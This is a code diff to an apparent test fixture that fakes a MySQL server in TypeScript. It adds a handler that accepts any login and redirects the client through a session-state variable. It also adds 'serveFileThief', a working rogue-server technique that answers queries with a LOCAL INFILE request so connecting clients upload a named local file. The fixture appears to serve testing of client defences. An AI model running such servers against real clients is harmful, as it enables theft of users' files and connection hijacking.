@@ -1,7 +1,10 @@
+import type { Socket } from 'node:net';
 import type { Wire } from '../core/hostile-wire-fixture.ts';
 
 const MOST_IN_PACKET = 0xffffff;
 const MORE_RESULTS = 8;
+const QUIT = 1;
+const STATE_CHANGED = 0x4002;
 const VAR_STRING = 0xfd;
 
 function little(value: number, bytes: number): Buffer {
@@ -36,8 +39,13 @@ const GREETING = Buffer.concat([
   Buffer.from('123456789012\0'),
   Buffer.from('mysql_native_password\0'),
 ]);
-const ok = (status: number, info = '') =>
+const ok = (status: number, info: Buffer | string = '') =>
   Buffer.concat([Buffer.of(0, 0, 0), little(status, 2), little(0, 2), Buffer.from(info)]);
+/** Says that the session has another value of a variable now. */
+const okWith = (variable: string, value: string) => {
+  const change = text(Buffer.concat([text(variable), text(value)]));
+  return ok(STATE_CHANGED, Buffer.concat([text(''), text(Buffer.concat([Buffer.of(0), change]))]));
+};
 const END_OF_FIELDS = Buffer.of(0xfe, 0, 0, 2, 0);
 const column = (name: string) =>
   Buffer.concat([
@@ -48,20 +56,74 @@ const column = (name: string) =>
     Buffer.of(VAR_STRING, 0, 0, 0, 0, 0),
   ]);
 
+type Packet = (body: Buffer) => Buffer;
+
+/** Bodies with their headers, in as many packets as it takes; told of what the client has sent. */
+function openWire(socket: Socket, take: (body: Buffer) => void): Packet {
+  let sequence = 0;
+  let waiting = Buffer.of();
+  socket.on('data', (bytes: Buffer) => {
+    waiting = Buffer.concat([waiting, bytes]);
+    while (waiting.length >= 4 && waiting.length >= 4 + waiting.readUIntLE(0, 3)) {
+      const length = waiting.readUIntLE(0, 3);
+      const body = waiting.subarray(4, 4 + length);
+      sequence = ((waiting[3] ?? 0) + 1) % 256;
+      waiting = waiting.subarray(4 + length);
+      take(body);
+    }
+  });
+  return (body) => {
+    const parts: Buffer[] = [];
+    for (let at = 0; at <= body.length; at += MOST_IN_PACKET) {
+      const part = body.subarray(at, at + MOST_IN_PACKET);
+      parts.push(little(part.length, 3), Buffer.of(sequence), part);
+      sequence = (sequence + 1) % 256;
+    }
+    return Buffer.concat(parts);
+  };
+}
+
+/** Takes any account, then is told of each statement. */
+function converse(
+  socket: Socket,
+  welcome: Buffer,
+  answer: (sql: string, packet: Packet) => void,
+): Packet {
+  let signedIn = false;
+  const packet = openWire(socket, (body) => {
+    if (!signedIn) {
+      signedIn = true;
+      socket.write(packet(welcome));
+    } else if (body[0] === QUIT) socket.end();
+    else answer(body.toString('utf8', 1), packet);
+  });
+  return packet;
+}
+
+const isSetting = (sql: string): boolean => /^\s*(SET|START|ROLLBACK|COMMIT|XA|KILL)\b/i.test(sql);
+
+/** Sends whoever has signed in to another place. */
+export function serveRedirect(socket: Socket, url: string): void {
+  const packet = converse(socket, okWith('redirect_url', url), (_sql, next) =>
+    socket.write(next(ok(2))),
+  );
+  socket.write(packet(GREETING));
+}
+
+/** Asks for a file of the client wherever a statement names it; told of what it gets. */
+export function serveFileThief(socket: Socket, file: string, onBody: (body: Buffer) => void): void {
+  let isAsking = false;
+  const packet = converse(socket, ok(2), (sql, next) => {
+    if (isAsking) onBody(Buffer.from(sql));
+    isAsking = !isSetting(sql) && sql.includes(file);
+    socket.write(next(isAsking ? Buffer.concat([Buffer.of(0xfb), Buffer.from(file)]) : ok(2)));
+  });
+  socket.write(packet(GREETING));
+}
+
 /** “MySQL Internals”, Client/Server Protocol. */
 export const MYSQL_WIRE: Wire = {
   serve(socket, behaviour, pour, onCancel) {
-    let sequence = 0;
-    /** With its headers, in as many packets as it takes. */
-    const packet = (body: Buffer): Buffer => {
-      const parts: Buffer[] = [];
-      for (let at = 0; at <= body.length; at += MOST_IN_PACKET) {
-        const part = body.subarray(at, at + MOST_IN_PACKET);
-        parts.push(little(part.length, 3), Buffer.of(sequence), part);
-        sequence = (sequence + 1) % 256;
-      }
-      return Buffer.concat(parts);
-    };
     const packets = (count: number, body: Buffer) =>
       Buffer.concat(Array.from({ length: count }, () => packet(body)));
     const fields = (count: number) =>
@@ -93,30 +155,15 @@ export const MYSQL_WIRE: Wire = {
     };
     const answer = (sql: string) => {
       if (sql.startsWith('KILL')) onCancel();
-      if (/^\s*(SET|START|ROLLBACK|COMMIT|XA|KILL)\b/i.test(sql)) socket.write(packet(ok(2)));
+      if (isSetting(sql)) socket.write(packet(ok(2)));
       else misbehave();
     };
+    const packet = converse(socket, ok(2), answer);
 
     if (behaviour === 'endless greeting') {
       const start = Buffer.concat([Buffer.of(10), letters(MOST_IN_PACKET - 1)]);
       return pour(() => packet(start));
     }
     socket.write(packet(GREETING));
-    let signedIn = false;
-    let waiting = Buffer.of();
-    socket.on('data', (bytes: Buffer) => {
-      waiting = Buffer.concat([waiting, bytes]);
-      while (waiting.length >= 4 && waiting.length >= 4 + waiting.readUIntLE(0, 3)) {
-        const length = waiting.readUIntLE(0, 3);
-        const body = waiting.subarray(4, 4 + length);
-        sequence = ((waiting[3] ?? 0) + 1) % 256;
-        waiting = waiting.subarray(4 + length);
-        if (!signedIn) {
-          signedIn = true;
-          socket.write(packet(ok(2)));
-        } else if (body[0] === 1) socket.end();
-        else answer(body.toString('utf8', 1));
-      }
-    });
   },
 };
